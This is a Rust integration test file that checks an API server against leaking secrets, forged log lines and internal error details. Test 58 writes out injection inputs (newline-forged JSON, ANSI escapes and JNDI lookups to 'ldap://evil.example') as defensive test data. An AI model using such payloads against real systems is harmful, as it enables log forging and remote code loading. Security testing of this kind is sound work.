//! What must not come out: secrets in answers, forged lines in the log, our insides in an error.
use crate::access::{second_factor, sign_in, text};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use persistence::sql;
use serde_json::{Value, json};
use std::sync::mpsc::channel;
use std::time::{Duration, Instant};
use tests::engine::Engine;
use tests::events::Events;
use tests::people::PASSWORD;
use tests::records::{made, writable};
use tests::{App, Who, both};

/// What nobody may be told, by what it is.
type Secrets = Vec<(&'static str, String)>;

/// Plants secrets of every kind that the server keeps or is given.
fn planted(app: &App) -> Secrets {
    let mut all: Secrets = vec![
        ("a password", PASSWORD.to_owned()),
        ("the data folder", app.data().to_str().unwrap().to_owned()),
    ];
    all.push(("the database's address", app.database()));
    let opened = sign_in(app, Who::Seller);
    for name in ["access_token", "refresh_token", "device_token"] {
        all.push(("a token", text(&opened, name)));
    }
    let (totp, recovery) = second_factor(&app.anyone().with_token(text(&sign_in(app, Who::Rival), "access_token")));
    all.push(("a second factor's secret", STANDARD.encode(totp)));
    all.extend(recovery.into_iter().map(|code| ("a recovery code", code)));
    let key = text(
        &app.be(Who::Owner).post("/api-keys", json!({"name": "planted"})).is(201).json(),
        "secret",
    );
    all.push(("an API key", key[18..].to_owned()));
    let calendar = app.be(Who::Owner).post("/calendars", json!({"name": "planted"})).is(201).json();
    let address = text(&calendar, "url");
    let (_, secret) = address.rsplit_once("pvc_").unwrap();
    all.push(("a calendar's secret", secret.trim_end_matches(".ics").to_owned()));
    // As it is kept: hashes, sealed secrets, and the keys that open them.
    let hashes = app.rows(sql!("SELECT password_hash FROM credentials"), |row| row.text(0));
    all.extend(hashes.into_iter().flatten().map(|hash| ("a password's hash", hash)));
    let kept = [
        sql!("SELECT hash FROM api_key_secrets"),
        sql!("SELECT hash FROM calendar_secrets"),
        sql!("SELECT refresh_hash FROM sessions"),
        sql!("SELECT hash FROM devices"),
        sql!("SELECT totp_secret FROM credentials WHERE totp_secret IS NOT NULL"),
    ];
    for bytes in kept.into_iter().flat_map(|kept| app.rows(kept, |row| row.bytes(0))).flatten() {
        all.push(("a hash", URL_SAFE_NO_PAD.encode(&bytes)));
        all.push(("a hash", STANDARD.encode(&bytes)));
        all.push(("a hash", bytes.iter().map(|b| format!("{b:02x}")).collect()));
    }
    for file in files(app.data()) {
        let bytes = std::fs::read(&file).unwrap();
        match String::from_utf8(bytes) {
            Ok(pem) => all.extend(
                pem.lines()
                    .filter(|l| l.len() > 30 && !l.starts_with('-'))
                    .map(|l| ("a line of a key", l.to_owned())),
            ),
            Err(raw) => all.push(("a raw key", STANDARD.encode(raw.as_bytes()))),
        }
    }
    assert!(all.len() > 40 && all.iter().all(|(_, secret)| secret.len() >= 8), "{}", all.len());
    all
}

/// The files of keys.
fn files(folder: &std::path::Path) -> Vec<std::path::PathBuf> {
    let in_folder = |folder: &std::path::Path| {
        std::fs::read_dir(folder)
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.is_file())
            .collect::<Vec<_>>()
    };
    let mut all = in_folder(&folder.join("keys"));
    all.extend(
        in_folder(folder)
            .into_iter()
            .filter(|path| path.extension().is_some_and(|e| e == "key")),
    );
    assert!(all.len() >= 2, "the keys are elsewhere now: {all:?}");
    all
}

#[track_caller]
fn tells_none(secrets: &Secrets, place: &str, text: &str) {
    for (what, secret) in secrets {
        assert!(!text.contains(secret.as_str()), "{place} tells {what}: {secret} in {text}");
    }
}

both! {
    fn attack_58_a_line_of_the_log_is_one_line_of_json(app: &App) {
        let node = app.another(&[("PEYVAND_LOG", "debug")]);
        let forged = "x\n{\"level\":\"INFO\",\"fields\":{\"message\":\"forged\"}}\r\n\u{1b}[31m${jndi:ldap://evil.example/a}";
        let owner = app.be(Who::Owner).at(node.address());
        let made = owner.post("/customers", json!({"kind": "person", "family_name": forged}));
        assert!(matches!(made.status, 201 | 422), "{made:?}");
        owner.list("/customers", &[("filter", forged)]).is(400);
        owner.list("/customers", &[(forged, "1")]).is(400);
        owner.get(&format!("/{}", tests::client::encode(forged))).is(404);
        app.anyone().at(node.address()).post("/auth/login", json!({"email": forged, "password": forged})).refuses(401, "invalid_credentials");
        owner.with("User-Agent", "x\t${jndi:y}").with("Request-Id", "forged").get("/customers").is(200);
        app.anyone().at(node.address()).with_token("${jndi:z}").get("/customers").is(401);
        // The last request has been logged when this one's line is there.
        let last = owner.get("/customers/the-last-line").is(404).header("request-id").to_owned();
        node.logged(|line| line.contains(&last));
        for line in node.log().iter().filter(|line| !line.starts_with("listening on ")) {
            let json: Value = serde_json::from_str(line).unwrap_or_else(|e| panic!("no JSON ({e}): {line}"));
            assert_ne!(json["fields"]["message"], "forged", "{line}");
            assert!(!line.chars().any(char::is_control), "{line:?}");
        }
    }

    fn attack_59_secrets_are_in_no_answer_no_export_no_feed_and_no_line(app: &App) {
        let node = app.another(&[("PEYVAND_LOG", "debug")]);
        let mut secrets = planted(app);
        let (owner, anyone) = (app.be(Who::Owner).at(node.address()), app.anyone().at(node.address()));
        // Each of these is given a secret, and refuses it without saying it again.
        let wrong = "not-the-password-of-anyone-77";
        secrets.push(("a wrong password", wrong.to_owned()));
        let given = json!({"email": Who::Branch.email(), "password": wrong});
        for refused in [
            anyone.post("/auth/login", given.clone()),
            anyone.send("POST", "/auth/login", "application/json", format!("{given}}}").as_bytes()),
            anyone.post("/auth/login", json!({"email": 1, "password": [wrong]})),
            anyone.post("/auth/refresh", json!({"refresh_token": wrong})),
            anyone.with_token(wrong).get("/customers"),
            owner.post("/users", json!({"name": "", "email": wrong, "password": [wrong]})),
            owner.post("/auth/password", json!({"current_password": wrong, "new_password": PASSWORD})),
            owner.list("/customers", &[("access_token", wrong)]),
        ] {
            assert!(refused.status >= 400, "{refused:?}");
            let own = refused.text().replace(&format!("\"{wrong}\""), "");
            tells_none(&secrets, "a refusal", &own);
        }
        // Every read of the contract, of every record there is, in every form.
        writable(app).into_iter().for_each(|spec| drop(made(app, spec)));
        let mut read = 0;
        for operation in app.contract().operations().iter().filter(|o| o.method == "GET") {
            // A feed has the id of its calendar.
            let list = &operation.path.split("/{").next().unwrap().replace("/calendar-feeds", "/calendars");
            let ids: Vec<String> = match operation.path.contains("{id}") {
                true => owner.get(list).is(200).ids(),
                false => vec![String::new()],
            };
            for id in ids {
                let path = operation.path.replace("{id}", &id).replace("{name}", "users").replace("{system}/{value}", "erp/1").replace("{file}", "x.ics");
                for accept in ["application/json", "text/csv", "application/x-ndjson"] {
                    let answer = owner.with("Accept", accept).get(&path);
                    tells_none(&secrets, &format!("{path} as {accept}"), &answer.text());
                    read += usize::from(answer.status == 200);
                }
            }
        }
        assert!(read > 80, "only {read} answers were read");
        let mut events = Events::ask(node.address(), &app.token(Who::Owner), "/changes", "Accept: text/event-stream\r\n");
        owner.post("/customers", json!({"kind": "person", "family_name": "The last"})).is(201);
        tells_none(&secrets, "the event stream", events.until(|text| text.contains("\"The last\"")));
        for path in ["/openapi.json", "/openapi.yaml", "/docs", "/health/ready", "/.well-known/jwks.json"] {
            tells_none(&secrets, path, &anyone.get(path).text());
        }
        // What is kept for others to read: the log of changes, answers kept for repetitions, work that waits.
        for kept in [sql!("SELECT changed FROM changes"), sql!("SELECT payload FROM jobs")] {
            app.rows(kept, |row| row.text(0)).into_iter().flatten().for_each(|text| tells_none(&secrets, "a table", &text));
        }
        let answers = app.rows(sql!("SELECT body FROM idempotency_keys"), |row| row.bytes(0));
        answers.iter().flatten().for_each(|bytes| tells_none(&secrets, "an answer that is kept", &String::from_utf8_lossy(bytes)));
        let last = owner.get("/customers/the-last-line").is(404).header("request-id").to_owned();
        node.logged(|line| line.contains(&last));
        for line in node.log().into_iter().chain(app.node().log()) {
            tells_none(&secrets, "the log", &line);
        }
    }

    fn attack_60_an_error_of_ours_is_told_to_the_log_alone(app: &App) {
        let owner = app.be(Who::Owner);
        owner.post("/groups", json!({"name": "گروه"})).is(201);
        app.write(|conn| conn.batch("ALTER TABLE groups RENAME TO broken_away"));
        for (language, answer) in [
            ("en", owner.get("/groups")),
            ("en", owner.post("/groups", json!({"name": "دیگر"}))),
            ("fa", owner.with("Accept-Language", "fa").get("/groups")),
        ] {
            let failed = answer.refuses(500, "internal");
            let json = failed.json();
            assert_eq!((&json["detail"], &json["errors"]), (&Value::Null, &json!([])), "{failed:?}");
            assert_eq!(failed.header("content-language"), language);
            assert!(!failed.text().contains("groups") && !failed.text().contains("table"), "{failed:?}");
            let id = failed.header("request-id").to_owned();
            let line = app.node().logged(move |line| line.contains(&id) && line.contains("ERROR"));
            assert!(line.contains("groups"), "the log says nothing of the cause: {line}");
        }
        // Everything else goes on.
        owner.get("/customers").is(200);
        app.write(|conn| conn.batch("ALTER TABLE broken_away RENAME TO groups"));
        owner.get("/groups").is(200);
    }

    /// That a handler which panics is answered so too is shown beside the edge itself: no operation of the product panics to order.
    fn attack_60_a_database_that_does_not_answer_in_time_is_told_to_the_log_alone(app: &App) {
        let owner = app.be(Who::Owner);
        let ((locked, is_locked), (release, released)) = (channel(), channel::<()>());
        std::thread::scope(|scope| {
            // Let go also when something below fails.
            let release = release;
            scope.spawn(move || {
                app.write(move |conn| {
                    // On SQLite the one who writes keeps all others from writing.
                    if !conn.is_sqlite() {
                        conn.batch("LOCK TABLE groups IN ACCESS EXCLUSIVE MODE")?;
                    }
                    locked.send(()).unwrap();
                    let _ = released.recv();
                    Ok(())
                });
            });
            is_locked.recv().unwrap();
            let started = Instant::now();
            let failed = owner.post("/groups", json!({"name": "گروه"})).refuses(503, "database_away");
            assert!(started.elapsed() < Duration::from_secs(12), "{:?}", started.elapsed());
            assert!(failed.header("retry-after").parse::<u32>().unwrap() > 0, "{failed:?}");
            let said = failed.text();
            for inside in ["groups", "lock", "statement", "timeout", "SQLITE", "sqlite", "postgres"] {
                assert!(!said.contains(inside), "{said}");
            }
            // It lives, and what needs nothing of what is locked is served.
            owner.get("/health/live").is(200);
            owner.get("/customers").is(200);
            let id = failed.header("request-id").to_owned();
            app.node().logged(move |line| line.contains(&id) && line.contains("ERROR"));
            let cause = if app.engine == Engine::Sqlite { "database is locked" } else { "canceling statement due to lock timeout" };
            app.node().logged(move |line| line.contains(cause));
            drop(release);
        });
        // Nothing is poisoned by it.
        owner.post("/groups", json!({"name": "گروه"})).is(201);
        assert_eq!(owner.get("/groups").is(200).data().len(), 1);
    }
}
